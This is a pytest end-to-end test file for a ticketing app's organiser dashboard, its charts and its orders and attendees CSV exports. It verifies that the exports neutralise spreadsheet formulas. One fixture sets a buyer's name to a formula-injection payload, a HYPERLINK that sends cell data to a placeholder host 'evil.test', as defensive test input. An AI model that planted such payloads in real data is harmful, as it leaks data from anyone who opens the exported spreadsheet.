"""The organiser's dashboard of a concert and its CSV files, end to end through nginx.

Three customers buy tickets of two levels through localstripe (one of them named like a
spreadsheet formula, one level too), the organiser refunds one order and checks one ticket in.
Then, against figures computed here from the events themselves (the order and ticket streams,
read with psql, without any of the read models):

- the dashboard page shows each level's and each day's tickets and money, and the door's count,
  with two SVG charts that have a title and a description, and the same figures in tables;
- the orders' and the attendees' CSV files download as `text/csv; charset=utf-8` attachments,
  have a row per order and per admitting ticket with the events' values, and every field a
  spreadsheet would take for a formula begins with an apostrophe (OWASP);
- a customer gets 403 and another organiser 404, as on the other organiser pages; an admin
  gets the page; the concert list and the orders page link to the dashboard.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
import xml.etree.ElementTree as ElementTree
from collections import defaultdict
from html.parser import HTMLParser

import pytest

from conftest import EncoreSession, wait_until
from test_cart_api import PASSWORD, create_concert, level, sign_in
from tickets_support import buy, online, tickets_of

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


# --------------------------------------------------------------------------------- helpers
def customer_named(base_url: str, name: str, email: str) -> EncoreSession:
    with EncoreSession(base_url, timeout=30) as anonymous:
        response = anonymous.post("/api/users", json={"email": email, "password": PASSWORD, "name": name})
        assert response.status_code == 201, response.text
    return sign_in(base_url, email)


def money(text: str) -> int:
    """`1050.00 PLN` in minor units."""
    amount = text.split()[0]
    sign = -1 if amount.startswith("-") else 1
    whole, cents = amount.lstrip("-").split(".")
    return sign * (int(whole) * 100 + int(cents))


class Figures(HTMLParser):
    """The dashboard's tables: per `<tr data-level>` (and `data-day`), its `data-figure` cells;
    the summary's figures; and the raw SVG elements."""

    def __init__(self, html: str):
        super().__init__()
        self.rows: dict[tuple[str, str], dict[str, str]] = {}
        self.summary: dict[str, str] = {}
        self.table = None
        self.row: tuple[str, str] | None = None
        self.figure: str | None = None
        self.in_summary = False
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "table":
            self.table = attrs.get("id")
        elif tag == "p" and attrs.get("id") == "summary":
            self.in_summary = True
        elif tag == "tr" and "data-level" in attrs:
            self.row = (attrs.get("data-day", ""), attrs["data-level"])
            self.rows[self.row] = {"table": self.table}
        elif "data-figure" in attrs:
            self.figure = attrs["data-figure"]

    def handle_endtag(self, tag):
        if tag == "tr":
            self.row = None
        elif tag == "p":
            self.in_summary = False
        elif tag in ("td", "strong", "span"):
            self.figure = None

    def handle_data(self, data):
        if self.figure is None:
            return
        if self.row is not None:
            self.rows[self.row][self.figure] = self.rows[self.row].get(self.figure, "") + data
        elif self.in_summary:
            self.summary[self.figure] = self.summary.get(self.figure, "") + data

    def table_rows(self, table: str) -> dict[tuple[str, str], tuple[int, int, int, int]]:
        """(day, level) -> (tickets sold, tickets refunded, gross, refunded money)."""
        return {key: (int(cells["ticketsSold"]), int(cells["ticketsRefunded"]), money(cells["gross"]),
                      money(cells["refunded"]))
                for key, cells in self.rows.items() if cells["table"] == table}


class Streams:
    """What the event streams say of a concert, from es_events (psql), without the read models."""

    def __init__(self, db, concert_id: str):
        def events(stream_type: str, owned: str) -> list[tuple[str, str, dict]]:
            rows = db.rows(
                f"""SELECT stream_id, event_type, data::text FROM es_events
                    WHERE stream_type = :'t' AND stream_id IN (SELECT stream_id FROM es_events WHERE {owned})
                    ORDER BY stream_id, stream_version""", t=stream_type, c=concert_id)
            return [(stream, kind, json.loads(data)) for stream, kind, data in rows]
        self.orders = events("order", "event_type = 'OrderCreated' AND data->>'concertId' = :'c'")
        self.tickets = events("ticket", "event_type = 'TicketIssued' AND data->'concert'->>'id' = :'c'")

    def per_day_and_level(self) -> dict[tuple[str, str], tuple[int, int, int, int]]:
        figures: dict[tuple[str, str], list[int]] = defaultdict(lambda: [0, 0, 0, 0])
        for _, kind, data in self.orders:
            if kind not in ("OrderCompleted", "OrderRefunded"):
                continue
            refund = kind == "OrderRefunded"
            day = data["refundedAt" if refund else "completedAt"][:10]  # RFC 3339 in UTC: the UTC day
            for item in data["items"]:
                quantity, amount = item["quantity"], item["quantity"] * item["unitPrice"]
                row = figures[(day, item["ticketLevelId"])]
                if refund:
                    row[1] += quantity
                    row[3] += amount
                else:
                    row[0] += quantity
                    row[2] += amount
        return {key: tuple(value) for key, value in figures.items()}

    def per_level(self) -> dict[tuple[str, str], tuple[int, int, int, int]]:
        totals: dict[tuple[str, str], list[int]] = defaultdict(lambda: [0, 0, 0, 0])
        for (_, level_id), values in self.per_day_and_level().items():
            for key in (("", level_id), ("", "total")):
                totals[key] = [a + b for a, b in zip(totals[key], values)]
        return {key: tuple(value) for key, value in totals.items()}

    def order_rows(self) -> list[dict]:
        orders: dict[str, dict] = {}
        for _, kind, data in self.orders:
            if kind == "OrderCreated":
                orders[data["orderId"]] = {
                    "number": data["number"], "createdAt": data["createdAt"], "status": "pending",
                    "buyer": data["buyerName"], "email": data["buyerEmail"],
                    "tickets": sum(i["quantity"] for i in data["items"]),
                    "total": sum(i["quantity"] * i["unitPrice"] for i in data["items"]), "refunded": 0}
            elif kind == "OrderCompleted":
                orders[data["orderId"]]["status"] = "completed"
            elif kind == "OrderCancelled":
                orders[data["orderId"]]["status"] = "cancelled"
            elif kind == "OrderRefunded":
                orders[data["orderId"]].update(status="refunded", refunded=data["amount"])
        return sorted(orders.values(), key=lambda o: (o["createdAt"], o["number"]))

    def attendee_rows(self) -> list[dict]:
        orders = {data["orderId"]: data for _, kind, data in self.orders if kind == "OrderCreated"}
        tickets: dict[str, dict] = {}
        for stream, kind, data in self.tickets:
            if kind == "TicketIssued":
                order = orders[data["orderId"]]
                tickets[stream] = {"number": data["number"], "level": data["levelName"], "name": data["holder"],
                                   "email": order["buyerEmail"], "order": order["number"], "checkedInAt": None}
            elif kind == "TicketCheckedIn":
                tickets[stream]["checkedInAt"] = data["checkedInAt"]
            elif kind == "TicketVoided":
                del tickets[stream]
        return sorted(tickets.values(), key=lambda t: t["number"])


def safe(field: str) -> str:
    """A field as the CSV must hold it: with an apostrophe before a formula's first character."""
    return "'" + field if field.startswith(FORMULA_STARTS) else field


def major(minor: int) -> str:
    return f"{minor // 100}.{minor % 100:02d}"


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert response.headers["cache-control"] == "private, no-store"
    assert response.content.startswith(b"\xef\xbb\xbf"), "a UTF-8 byte order mark for Excel"
    text = response.content.decode("utf-8-sig")
    assert text.endswith("\r\n") and "\r\n" in text
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for field in row:
            assert not field.startswith(FORMULA_STARTS), f"a spreadsheet would run {field!r}"


# --------------------------------------------------------------------------------- the scenario
@pytest.fixture(scope="module")
def organiser(base_url):
    with sign_in(base_url, "organiser@encore.test") as session:
        yield session


@pytest.fixture(scope="module")
def admin(base_url):
    with sign_in(base_url, "admin@encore.test") as session:
        yield session


@pytest.fixture(scope="module")
def sales(base_url, organiser, db) -> dict:
    """Ann buys 2 floor and 1 balcony, Bob (a formula) 2 balcony and is refunded, Cy 1 floor;
    one of Ann's tickets is checked in. Waits until the dashboard and the tickets show it all."""
    concert = create_concert(organiser, db, [level("floor", 40, 30_000),
                                             {"id": "balcony", "name": "+Balcony", "capacity": 20, "price": 15_000}])
    tag = uuid.uuid4().hex[:8]
    people = {
        "ann": ("Ann Dashboard", f"ann-{tag}@example.test", [(concert["id"], "floor", 2), (concert["id"], "balcony", 1)]),
        "bob": ('=HYPERLINK("http://evil.test/?"&A1,"Bob")', f"=bob-{tag}@example.test", [(concert["id"], "balcony", 2)]),
        "cy": ("@Cy", f"cy-{tag}@example.test", [(concert["id"], "floor", 1)]),
    }
    orders, tickets = {}, {}
    for key, (name, email, items) in people.items():
        with customer_named(base_url, name, email) as customer:
            orders[key] = buy(customer, items, online("dashboard"))
            tickets[key] = tickets_of(customer, orders[key]["id"], sum(q for _, _, q in items))
    refund = organiser.post(f"/api/orders/{orders['bob']['id']}/refund")
    assert refund.status_code == 200, refund.text
    checked = organiser.post("/api/check-ins", json={"code": tickets["ann"][0]["code"], "gate": "north"})
    assert checked.status_code == 200, checked.text

    def settled():
        page = organiser.get(f"/admin/concerts/{concert['id']}/dashboard")
        figures = Figures(page.text)
        total = figures.rows.get(("", "total"), {})
        done = total.get("ticketsSold") == "6" and total.get("ticketsRefunded") == "2"
        attendees = organiser.get(f"/admin/concerts/{concert['id']}/attendees.csv")
        return done and attendees.content.count(b"\r\n") == 1 + 4 and page
    wait_until(settled, 60, 0.3, "the dashboard and the attendees to show the sales, the refund and the check-in")
    return {"concert": concert, "orders": orders, "tickets": tickets, "people": people}


# --------------------------------------------------------------------------------- the page
def test_the_dashboard_shows_what_the_order_events_say(organiser, sales, db):
    concert = sales["concert"]
    page = organiser.get(f"/admin/concerts/{concert['id']}/dashboard")
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    assert "no-store" in page.headers["cache-control"]
    figures = Figures(page.text)
    streams = Streams(db, concert["id"])

    expected_days = streams.per_day_and_level()
    assert figures.table_rows("days") == expected_days
    expected_levels = streams.per_level()
    assert figures.table_rows("levels") == expected_levels
    assert expected_levels[("", "total")] == (6, 2, 2 * 30_000 + 3 * 15_000 + 30_000, 2 * 15_000)
    assert expected_levels[("", "floor")] == (3, 0, 90_000, 0) and expected_levels[("", "balcony")] == (3, 2, 45_000, 30_000)
    assert money(figures.rows[("", "total")]["net"]) == 135_000 - 30_000
    assert figures.summary["ticketsSold"] == "6" and figures.summary["ticketsRefunded"] == "2"
    assert money(figures.summary["net"]) == 105_000
    assert figures.summary["checkedIn"] == "1" and figures.summary["admitting"] == "4"
    assert "+Balcony" in page.text and "UTC days" in page.text


def test_the_charts_are_svg_drawn_on_the_server_with_a_title_and_a_description(organiser, sales):
    page = organiser.get(f"/admin/concerts/{sales['concert']['id']}/dashboard").text
    svgs = [page[start:page.index("</svg>", start) + len("</svg>")]
            for start in (page.index('<svg', page.index(f'id="{figure}"')) for figure in ("tickets-figure",
                                                                                          "takings-figure"))]
    namespace = "{http://www.w3.org/2000/svg}"
    for svg, name in zip(svgs, ("tickets-chart", "takings-chart")):
        root = ElementTree.fromstring(svg)  # well-formed XML
        assert root.get("role") == "img" and root.get("aria-labelledby") == f"{name}-title {name}-desc"
        assert root.find(f"{namespace}title").get("id") == f"{name}-title"
        description = root.find(f"{namespace}desc").text
        assert "6 sold" in description or "PLN" in description
        bars = [rect for rect in root.iter(f"{namespace}rect") if rect.find(f"{namespace}title") is not None]
        assert bars and any("refunded" in bar.find(f"{namespace}title").text for bar in bars)
        assert not list(root.iter(f"{namespace}script")) and "style=" not in svg
    assert "<script" not in page.split("</header>", 1)[1], "no JavaScript on the page itself"


# --------------------------------------------------------------------------------- the files
def test_the_orders_csv_is_the_order_events_with_formulas_neutralised(organiser, sales, db):
    concert = sales["concert"]
    response = organiser.get(f"/admin/concerts/{concert['id']}/orders.csv")
    assert response.headers["content-disposition"] == f'attachment; filename="orders-{concert["id"]}.csv"'
    rows = csv_rows(response)
    header, body = rows[0], rows[1:]
    assert header[:5] == ["Order", "Placed at (UTC)", "Status", "Buyer", "E-mail"]
    column = {name: index for index, name in enumerate(header)}
    expected = Streams(db, concert["id"]).order_rows()
    assert [[row[column[c]] for c in ("Order", "Status", "Buyer", "E-mail", "Tickets", "Total", "Refunded")]
            for row in body] == [[o["number"], o["status"], safe(o["buyer"]), safe(o["email"]), str(o["tickets"]),
                                  major(o["total"]), major(o["refunded"])] for o in expected]
    assert [row[column["Status"]] for row in body] == ["completed", "refunded", "completed"]
    bob = body[1]
    assert bob[column["Buyer"]] == "'" + sales["people"]["bob"][0] and bob[column["E-mail"]].startswith("'=bob-")
    assert body[2][column["Buyer"]] == "'@Cy"
    # The cart orders its lines by level id: "+Balcony" first, so the field is neutralised.
    assert body[0][column["Levels"]] == "'+Balcony × 1; Floor × 2"
    assert_no_formula(rows)


def test_the_attendees_csv_is_the_ticket_events_with_formulas_neutralised(organiser, sales, db):
    concert = sales["concert"]
    response = organiser.get(f"/admin/concerts/{concert['id']}/attendees.csv")
    assert response.headers["content-disposition"] == f'attachment; filename="attendees-{concert["id"]}.csv"'
    rows = csv_rows(response)
    assert rows[0] == ["Ticket", "Level", "Name", "E-mail", "Order", "Checked in", "Checked in at (UTC)"]
    expected = Streams(db, concert["id"]).attendee_rows()
    assert len(expected) == 4, "Ann's three and Cy's one; Bob's refunded tickets are void"
    assert rows[1:] == [[t["number"], safe(t["level"]), safe(t["name"]), safe(t["email"]), t["order"],
                         "yes" if t["checkedInAt"] else "no",
                         t["checkedInAt"][:19] + "Z" if t["checkedInAt"] else ""] for t in expected]
    checked = [row for row in rows[1:] if row[5] == "yes"]
    assert [row[0] for row in checked] == [sales["tickets"]["ann"][0]["number"]]
    assert any(row[1] == "'+Balcony" for row in rows[1:])
    assert_no_formula(rows)


# --------------------------------------------------------------------------------- who may see it
@pytest.fixture(scope="module")
def other_organiser(base_url, admin):
    email = f"organiser-{uuid.uuid4().hex[:8]}@encore.test"
    with EncoreSession(base_url) as anonymous:
        response = anonymous.post("/api/users", json={"email": email, "password": PASSWORD, "name": "Otto Other"})
        assert response.status_code == 201, response.text
        user_id = response.json()["user"]["id"]
    assert admin.put(f"/api/users/{user_id}/role", json={"role": "organiser"}).status_code == 200
    with sign_in(base_url, email) as session:
        yield session


def test_only_the_organiser_and_admins_see_the_dashboard_and_the_files(base_url, sales, other_organiser, admin):
    concert_id = sales["concert"]["id"]
    paths = [f"/admin/concerts/{concert_id}/{what}" for what in ("dashboard", "orders.csv", "attendees.csv")]
    with customer_named(base_url, "Nosy Customer", f"nosy-{uuid.uuid4().hex[:8]}@example.test") as customer:
        for path in paths:
            assert customer.get(path).status_code == 403, path
    for path in paths:
        answer = other_organiser.get(path, headers={"Accept": "application/json"})
        assert answer.status_code == 404 and answer.json()["error"]["code"] == "unknown_concert", path
        assert other_organiser.get(path).status_code == 404, path
        assert admin.get(path).status_code == 200, path
    with EncoreSession(base_url) as anonymous:
        for path in paths:
            assert anonymous.get(path, allow_redirects=False).status_code in (303, 401), path
    assert other_organiser.get(f"/admin/concerts/no-such-{uuid.uuid4().hex}/dashboard").status_code == 404


def test_the_concert_list_and_the_orders_page_link_to_the_dashboard(organiser, sales):
    concert_id = sales["concert"]["id"]
    link = f'href="/admin/concerts/{concert_id}/dashboard"'
    assert link in organiser.get("/admin/concerts").text
    orders_page = organiser.get(f"/admin/concerts/{concert_id}/orders").text
    assert link in orders_page
    assert f'href="/admin/concerts/{concert_id}/orders.csv"' in orders_page
    assert f'href="/admin/concerts/{concert_id}/attendees.csv"' in orders_page


def test_a_concert_with_no_sales_says_so(organiser, db):
    concert = create_concert(organiser, db, [level("floor", 5, 10_000)])
    page = organiser.get(f"/admin/concerts/{concert['id']}/dashboard")
    assert page.status_code == 200 and "Nothing sold yet." in page.text and "<svg" not in page.text
    rows = csv_rows(organiser.get(f"/admin/concerts/{concert['id']}/orders.csv"))
    assert len(rows) == 1
